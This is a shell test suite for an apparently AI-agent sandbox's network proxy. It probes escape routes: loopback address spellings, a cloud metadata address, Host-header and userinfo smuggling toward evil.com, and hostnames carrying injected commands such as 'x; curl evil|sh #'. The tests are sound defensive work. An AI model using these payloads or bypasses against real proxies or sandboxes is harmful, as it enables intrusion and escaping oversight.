# ESCAPES 22, J5: network `allow`, and what its proxy lets through.
load helpers
load served

# What is asked for in one raw request; the first line of the answer.
ask() {
  "$garth" exec t -- python3 -c '
import socket, sys
s = socket.create_connection(("127.0.0.1", 23128)); s.settimeout(20)
s.sendall(sys.argv[1].encode("latin-1").decode("unicode_escape").encode("latin-1"))
print(s.recv(4096).split(b"\r\n")[0].decode())' "$1"
}

@test "ESCAPES 22 J5: a listed host is reached by HTTP, CONNECT and SOCKS5, and nothing is reached without the proxy" {
  "$garth" new t
  call "$garth" exec --allow "localhost:$port" t -- sh -c "
    curl -sS -m 20 --noproxy '' http://localhost:$port/word
    curl -sS -m 20 --noproxy '' -p http://localhost:$port/word
    curl -sS -m 20 --noproxy '' -x socks5h://127.0.0.1:23128 http://localhost:$port/word
    curl -sS -m 20 -x '' http://example.com/; echo \$?
    getent hosts example.com; echo \$?"
  [[ $out == "$SECRET"$'\n'"$SECRET"$'\n'"$SECRET"$'\n6\n2' ]] || complain
  [[ $(curl -s "http://localhost:$port/word") == "$SECRET" ]]
  # it was for that command; the task's own list is empty
  [[ $(get "http://localhost:$port/word") == *"BLOCKED: localhost:$port is not on this task's list"*"You tried to: connect to localhost:$port"*"Instead, you should: "* ]]
}

@test "ESCAPES 22 J5: a listed port of localhost is forwarded, at both addresses, for programs that know no proxy; other ports are the inside's" {
  "$garth" run -q -d -t t --allow "localhost:$port" -- sleep 1000
  [[ $(raw 127.0.0.1 "$port") == "$SECRET" ]] || complain "$(raw 127.0.0.1 "$port")"
  [[ $(raw localhost "$port") == "$SECRET" ]] || complain "$(raw 127.0.0.1 "$port")"
  if grep -q ' lo$' /proc/net/if_inet6 2>/dev/null; then [[ $(raw ::1 "$port") == "$SECRET" ]] || complain "$(raw ::1 "$port")"; fi
  # the control: there is such a server outside; inside its port is nobody's
  python3 -u -m http.server --bind 127.0.0.1 -d "$T/www" 0 >"$T/second" 2>&1 3>&- & second=$!
  eventually grep -q 'port [0-9]' "$T/second"; other=$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$T/second")
  [[ $(curl -s "http://127.0.0.1:$other/word") == "$SECRET" ]]
  for name in localhost 127.0.0.1; do [[ $(raw $name "$other") == ConnectionRefusedError ]] || complain "$name: $(raw $name "$other")"; done
  for name in localhost 127.0.0.1 '[::1]'; do
    [[ $(get "http://$name:$other/word") == *"BLOCKED: localhost:$other is not on this task's list"* ]] || complain "$name: $(get "http://$name:$other/word")"
    [[ $(get "http://$name:$port/word") == "$SECRET" ]] || complain "$name: $(get "http://$name:$port/word")"
  done
  kill "$second"; wait "$second" || true
  [[ $("$garth" show t) == *"forwarded  port $port of localhost is the host's, "*" connections"* ]] || complain "$("$garth" show t)"
  [[ $("$garth" show t --json | json 'd["network"]["forwarded"][0]["port"]') == "$port" ]]
  "$garth" audit t --json | grep -q '"connect"'
}

@test "J5: localhost is the inside's: a task's server runs beside a forwarded port, but not on it" {
  call "$garth" run -q -t t --on-dirty keep --allow "localhost:$port" -- sh -c "
    curl -sS -m 20 http://localhost:$port/word
    python3 -m http.server --bind 127.0.0.1 -d /etc 4321 >/dev/null 2>&1 & until curl -s -o /dev/null http://localhost:4321/; do sleep 0.1; done
    curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' http://localhost:4321/hosts; curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:4321/hosts; echo \$NO_PROXY
    python3 -c 'import socket; socket.create_server((\"127.0.0.1\", $port))' 2>&1 | grep -o 'Address already in use'"
  [[ $out == "$SECRET"$'\n200\n200\nlocalhost,127.0.0.1,::1\nAddress already in use' ]] || complain
  call "$garth" run -q -t u -- sh -c 'echo $NO_PROXY'; [[ $out == localhost,127.0.0.1,::1 ]] || complain
}

@test "J5: a listed loopback address means that one only; a port on which nobody listens is reset; the number of ports is limited" {
  "$garth" run -q -d -t t --allow "[::1]:$port" --allow localhost:1 -- sleep 1000
  # the server outside is at 127.0.0.1 alone
  [[ $(raw 127.0.0.1 "$port") == ConnectionResetError || $(raw 127.0.0.1 "$port") == BrokenPipeError ]] || complain "$(raw 127.0.0.1 "$port")"
  [[ $(raw 127.0.0.1 1) == ConnectionResetError || $(raw 127.0.0.1 1) == BrokenPipeError ]] || complain "$(raw 127.0.0.1 1)"
  many=(); for ((i = 1; i <= 33; i++)); do many+=(--allow "localhost:$((20000 + i))"); done
  fails 2 "at most 32 ports of localhost, not 33" "$garth" run -t m "${many[@]}" -- true
  fails 2 "port 23128 of localhost is the proxy's own" "$garth" run -t m --allow localhost:23128 -- true
  "$garth" run -q -t m "${many[@]:2}" --on-dirty keep -- true
}

@test "J5 J7: a base URL on loopback is forwarded, from an agent's variables and its copied configuration, but a tool server's is not" {
  local a url="http://localhost:$port"
  mkdir -p "$HOME/.local/bin" "$HOME/.codex" "$HOME/.claude" "$HOME/.config/opencode" "$HOME/.config/goose" "$HOME/.gemini"; export PATH=$HOME/.local/bin:$PATH
  printf 'model_provider = "x"\n[model_providers.x]\nbase_url = "%s/v1" # mine\n[mcp_servers.y]\nbase_url = "http://localhost:7"\n' "$url" >"$HOME/.codex/config.toml"
  printf '{"env": {"ANTHROPIC_BASE_URL": "%s"}, "mcpServers": {"y": {"url": "http://localhost:7", "env": {"X_BASE_URL": "http://localhost:7"}}}}' "$url" >"$HOME/.claude/settings.json"
  printf '{ // mine\n "provider": {"x": {"options": {"baseURL": "%s/v1"}}}, "mcp": {"y": {"baseURL": "http://localhost:7"}},}' "$url" >"$HOME/.config/opencode/opencode.json"
  printf 'OLLAMA_HOST: localhost:%s\nextensions: {y: {envs: {X_HOST: "localhost:7"}}}\n' "$port" >"$HOME/.config/goose/config.yaml"
  printf 'GOOGLE_GEMINI_BASE_URL=%s\n' "$url" >"$HOME/.gemini/.env"
  for a in codex claude opencode goose gemini; do
    printf '#!/bin/sh\ncurl -s -m 20 %s/word\n' "$url" >"$HOME/.local/bin/$a"; chmod +x "$HOME/.local/bin/$a"
    call "$garth" run -q -t "$a" -- "$a"; [[ $out == "$SECRET" ]] || complain "$a"
    [[ $("$garth" show "$a" --json | json '[f["port"] for f in d["network"]["forwarded"]]') == "[$port]" ]] || complain "$a: $("$garth" show "$a")"
  done
  rm "$HOME/.claude/settings.json"; ANTHROPIC_BASE_URL=$url call "$garth" run -q -t v -- claude; [[ $out == "$SECRET" ]] || complain
}

@test "ESCAPES 22 J5: names match by whole labels in plain spelling, and only listed ports" {
  "$garth" run -t t --on-dirty keep --allow "localhost:$port" --allow github.com --allow '*.crates.io' -- true
  [[ $(code "http://localhost:$port/word") == '200 000' ]]
  [[ $(code "http://LocalHost.:$port/word") == '200 000' ]]
  for url in http://evil-github.com/ http://github.com.evil.com/ http://notcrates.io/ http://crates.io/ http://xn--github-x1a.com/ \
      "http://localhost:$((port + 1))/" http://localhost/ "http://localhost.evil.com:$port/" http://github.com:22/ http://example.com/; do
    [[ $(code "$url") == '403 000' ]] || complain "$url: $(code "$url")"
    [[ $(code -p "$url") == '000 403' ]] || complain "CONNECT to $url: $(code -p "$url")"
  done
}

@test "ESCAPES 22 J5: addresses are not names: in no spelling, and not if a name resolves to one" {
  "$garth" run -t t --on-dirty keep --allow "localhost:$port" --allow "*.localhost:$port" --allow "ip6-localhost:$port" --allow "$(hostname):$port" -- true
  for host in 127.1 0177.0.0.1 0x7f000001 0x7f.0.0.1 2130706433 017700000001 127.0.0.2 '[::ffff:7f00:2]' '[::127.0.0.1]' \
      0.0.0.0 169.254.169.254 10.0.0.1 '[fe80::1]' '[64:ff9b::7f00:1]' 127.0.0.1.; do
    answer=$(ask "CONNECT $host:$port HTTP/1.1\\r\\n\\r\\n")
    [[ $answer == 'HTTP/1.1 403 '* || $answer == 'HTTP/1.1 400 '* ]] || complain "$host: $answer"
    answer=$(ask "GET http://$host:$port/word HTTP/1.1\\r\\n\\r\\n")
    [[ $answer == 'HTTP/1.1 403 '* || $answer == 'HTTP/1.1 400 '* ]] || complain "$host: $answer"
  done
  # a listed name that leads to this machine; one that leads nowhere is not found
  for name in "$(hostname)" ip6-localhost; do
    answer=$(ask "CONNECT $name:$port HTTP/1.1\\r\\n\\r\\n")
    if getent ahosts "$name" >/dev/null; then want='403 '; else want='502 '; fi
    # the machine's own name may lead to an address that is public: then nobody is refused
    [[ $answer == "HTTP/1.1 $want"* || $name == "$(hostname)" ]] || complain "$name: $answer"
  done
  # the control: listed as what it is, it is reached
  [[ $("$garth" exec --allow "127.0.0.1:$port" t -- curl -s --noproxy '' "http://127.0.0.1:$port/word") == "$SECRET" ]]
}

@test "ESCAPES 22 J5: ambiguous and empty requests are refused, and the next one works" {
  "$garth" run -t t --on-dirty keep --allow "localhost:$port" -- true
  for request in \
      "GET http://localhost:$port/word HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n" \
      "GET http://localhost:$port/word HTTP/1.1\\r\\nHost: localhost:$port\\r\\nHost: evil.com\\r\\n\\r\\n" \
      "GET http://evil.com@localhost:$port/word HTTP/1.1\\r\\n\\r\\n" \
      "GET http://localhost:$port@evil.com/word HTTP/1.1\\r\\n\\r\\n" \
      "GET /word HTTP/1.1\\r\\nHost: localhost:$port\\r\\n\\r\\n" \
      "CONNECT localhost\\x00.evil.com:$port HTTP/1.1\\r\\n\\r\\n" \
      "CONNECT localhost%00.evil.com:$port HTTP/1.1\\r\\n\\r\\n" \
      "CONNECT localhost:$port\\rX HTTP/1.1\\r\\n\\r\\n" \
      "CONNECT localhost:$port/ HTTP/1.1\\r\\n\\r\\n" \
      "CONNECT localhost HTTP/1.1\\r\\n\\r\\n" \
      "\\x16\\x03\\x01\\x02\\x00\\x01\\r\\n\\r\\n" \
      "$(printf 'A%.0s' {1..40000})\\r\\n\\r\\n"; do
    [[ $(ask "$request") == 'HTTP/1.1 400 '* ]] || complain "$request: $(ask "$request")"
  done
  [[ $(ask "GET http://localhost:$port/word HTTP/1.1\\r\\nHost: localhost:$port\\r\\n\\r\\n") == 'HTTP/1.0 200 '* ]]
}

@test "J5 G7: each connection and each refusal is recorded, and shown by show" {
  "$garth" run -t t --on-dirty keep --allow "localhost:$port" -- sh -c "
    curl -s -m 20 --noproxy '' http://localhost:$port/word; curl -s http://example.com/; curl -s https://example.com/; curl -s http://example.com/" >/dev/null
  [[ $("$garth" show t --json | json 'd["network"]') == '{"mode": "allow", "hosts": ["localhost:'"$port"'"], "forwarded": [{"port": '"$port"', "times": 1}], "reached": [{"host": "localhost", "port": '"$port"', "times": 1}], "unanswered": [], "private": [], "refused": [{"host": "example.com", "port": 80, "times": 2, "allow": "example.com"}, {"host": "example.com", "port": 443, "times": 1, "allow": "example.com"}]}' ]] || complain "$("$garth" show t --json)"
  call "$garth" show t
  [[ $out == *"network    allow"*"hosts      localhost:$port"*"reached    localhost:$port, 1 time"*"refused    example.com:80, 2 times"* ]] || complain
  [[ $("$garth" audit t --json | grep -c '"event": *"connect') == 4 ]]
  "$garth" audit --verify
}

@test "J5: an agent that is known by its program gets its model's endpoints, and no other command does" {
  mkdir -p "$T/bin"; printf '#!/bin/sh\ncurl -s -o /dev/null -w "%%{http_connect}\\n" -m 20 https://api.anthropic.com/ https://example.com/; true\n' >"$T/bin/claude"; chmod -R a+rx "$T/bin"
  mkdir -p "$HOME/.local/bin"; cp "$T/bin/claude" "$HOME/.local/bin/claude"
  "$garth" run -t t --on-dirty keep -- "$HOME/.local/bin/claude" >"$T/o"
  # whether this machine can reach it is not Garth's decision: it is not refused
  [[ $(sed -n 1p "$T/o") != 403 ]] || complain "$(cat "$T/o")"
  [[ $(sed -n 2p "$T/o") == 403 ]] || complain "$(cat "$T/o")"
  [[ $("$garth" show t --json | json '"api.anthropic.com" in d["network"]["hosts"]') == true ]]
  "$garth" run -t u --on-dirty keep -- true
  [[ $("$garth" show u --json | json 'd["network"]["hosts"]') == '[]' ]]
}

@test "ESCAPES 22 19: the proxy ends with the task, and idles without connections" {
  "$garth" run -d -t t --allow "localhost:$port" -- sleep 1000
  keeper=$(keeper_of t)
  not pgrep -P "$keeper" -x garth-proxy
  "$garth" exec t -- curl -s -m 20 --noproxy '' "http://localhost:$port/word" >/dev/null
  eventually pgrep -P "$keeper" -x garth-proxy; proxy=$(pgrep -P "$keeper" -x garth-proxy | head -n 1)
  "$garth" cancel t
  eventually not kill -0 "$proxy"
}

@test "O2 J5: a bad host or network is named" {
  "$garth" new t
  for host in '' '*' 'a b' http://a.b/ a.b/8 a.b:0 10.0.0.0/40; do fails 2 "is not a host" "$garth" exec --allow "$host" t -- true; done
  fails 2 "goes with --net allow" "$garth" exec --net none --allow a.b t -- true
  fails 2 "there is no network 'x'" "$garth" exec --net x t -- true
  mkdir -p "$XDG_CONFIG_HOME/garth"; printf 'network:\n  allow: [a.b, "x y"]\n' >"$XDG_CONFIG_HOME/garth/config.yaml"
  fails 2 "config.yaml:2:16: 'x y' in 'network.allow' is not a host" "$garth" ls
}

@test "ESCAPES 20 22 J5: a client that keeps connecting is slowed down: the log does not grow without limit" {
  "$garth" new t
  n=$("$garth" exec t -- python3 -c '
import socket, time
end, n = time.time() + 5, 0
while time.time() < end:
    s = socket.create_connection(("127.0.0.1", 23128)); s.sendall(b"CONNECT a%d.example:443 HTTP/1.1\r\n\r\n" % n); s.recv(100); s.close(); n += 1
print(n)')
  ((n > 20 && n < 640)) || complain "$n"
  (($("$garth" show t --json | json 'len(d["network"]["refused"])') <= 500))
}

@test "J5 egress: a run that was refused a host says so at its end, once, with the command that allows it" {
  run "$garth" run --task t -- sh -c 'curl -s https://registry.example.org/; curl -s https://registry.example.org/; exit 1'
  [[ $output == *"task 't' did not reach registry.example.org:443: garth allow --host t registry.example.org"* ]]
  run "$garth" run --task u -- sh -c 'exit 1'
  [[ $output != *'not reach'* ]]
}

@test "J5 egress: a listed host that does not answer is not called refused" {
  call "$garth" run -t t --allow "localhost:1" -- sh -c 'curl -s -m 20 http://localhost:1/; curl -s -m 20 http://example.com/; true'
  [[ $code == 0 ]] || complain
  [[ $err == *'did not reach example.com:80: garth allow --host t example.com'* ]] || complain
  [[ $err != *localhost* ]] || complain
  call "$garth" show t
  [[ $out == *'no answer  localhost:1, '*'refused    example.com:80, 1 time'* ]] || complain
}

@test "J5 egress: text that an agent asked for and that is no host's name is not offered for copying" {
  cat >ask.py <<'PY'
import os, socket, sys
host, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
for name in (b"x; curl evil|sh #", b"$(touch${IFS}/tmp/pwn)", b"*", b"x --allow 0.0.0.0/0", b"", b"-q.example", b"plain.example"):
    s = socket.create_connection((host, int(port))); s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + (8443).to_bytes(2, "big")); s.recv(10)
PY
  commit ask
  call "$garth" run -t t -- /usr/bin/python3 ask.py
  [[ $err == *"task 't' did not reach plain.example:8443: garth allow --host t plain.example:8443"* ]] || complain
  [[ $err == *"no host's name: garth show t"* ]] || complain
  [[ $err != *curl* ]] || complain
  [[ $err != *touch* ]] || complain
  [[ $err != *-q.example* ]] || complain
  [[ $err != *'--host t *'* ]] || complain
  [[ $err != *0.0.0.0* ]] || complain
}

# A name of the machine's own that leads to an address which is not public; there is one on every Debian.
private_name() { awk '$1 ~ /^(127\.|10\.|192\.168\.)/ { for (i = 2; i <= NF; i++) if ($i != "localhost" && $i !~ /^#/) { print $i, $1; exit } }' /etc/hosts; }

@test "J5 egress: a listed name that resolves to a private address is reported: at once, at the end, in show, with the command that allows it" {
  read -r name address <<<"$(private_name)"; [[ -n $name ]] || skip "no such name in /etc/hosts"
  call "$garth" run -t t --allow "$name:$port" -- sh -c "curl -s -m 20 -o /dev/null -w '%{http_code}' http://$name:$port/word; curl -s -m 20 -o /dev/null http://$name:$port/word"
  [[ $out == 403 ]] || complain
  # once while it runs, and once at its end
  [[ $(grep -c "$name:$port leads to $address, which is not a public address: garth allow --host t $address:$port" <<<"$err") == 2 ]] || complain
  call "$garth" show t
  [[ $out == *"private    $name:$port, 2 times; leads to $address, which is not a public address: garth allow --host t $address:$port"* ]] || complain
  [[ $out != *'no answer'* ]] || complain
  [[ $("$garth" show t --json | json 'd["network"]["private"]') == '[{"host": "'"$name"'", "port": '"$port"', "times": 2, "address": "'"$address"'", "allow": "'"$address:$port"'"}]' ]] || complain "$("$garth" show t --json)"
  # the control: with that entry it is reached
  call "$garth" run -q -t u --allow "$name:$port" --allow "$address:$port" -- curl -s -m 20 "http://$name:$port/word"
  [[ $out == "$SECRET" || $address != 127.0.0.1 ]] || complain
}

@test "J5 J7 exec: a known agent in a running task has its hosts, its log-in and its variables, as with run" {
  # dummies instead of them: credentials.bats
  configure <<<'agents: {claude: {credentials: copy}}'
  mkdir -p "$HOME/.local/bin" "$HOME/.claude"; export PATH=$HOME/.local/bin:$PATH
  echo '{"is": "here"}' >"$HOME/.claude/.credentials.json"
  printf '#!/bin/sh\necho "$ANTHROPIC_API_KEY"; cat ~/.claude/.credentials.json; curl -s -m 20 %s/word; curl -s -o /dev/null -w "%%{http_connect}\n" -m 20 https://api.anthropic.com/; true\n' "http://localhost:$port" >"$HOME/.local/bin/claude"; chmod +x "$HOME/.local/bin/claude"
  export ANTHROPIC_API_KEY=key ANTHROPIC_BASE_URL=http://localhost:$port
  "$garth" run -q -d -t t -- sleep 1000
  # the control: another command has nothing of it
  call "$garth" exec t -- sh -c 'echo "$ANTHROPIC_API_KEY"; ls ~/.claude'; [[ -z $out ]] || complain
  call "$garth" exec t -- claude
  [[ $out == $'key\n{"is": "here"}\n'"$SECRET"$'\n'* ]] || complain
  [[ ${out##*$'\n'} != 403 ]] || complain
  [[ $("$garth" show t --json | json '"api.anthropic.com" in d["network"]["hosts"]') == true ]]
  # it was for as long as the task runs
  "$garth" cancel t
  eventually is_state t cancelled
  [[ $("$garth" show t --json | json 'd["network"]["hosts"]') == '[]' ]]
  call "$garth" exec t -- claude
  [[ $out == $'key\n{"is": "here"}\n'"$SECRET"* ]] || complain
  call "$garth" exec --agent claude t -- sh -c 'echo "$ANTHROPIC_API_KEY"'
  [[ $out == key ]] || complain
  fails 3 "there is no agent 'x'" "$garth" exec --agent x t -- true
  # a shell is the task's own agent's
  "$garth" run -q -t c -- claude >/dev/null
  [[ $(echo 'echo "$ANTHROPIC_API_KEY"' | "$garth" shell c) == key ]]
  [[ -z $(echo 'echo "$ANTHROPIC_API_KEY"' | "$garth" shell t) ]]
}
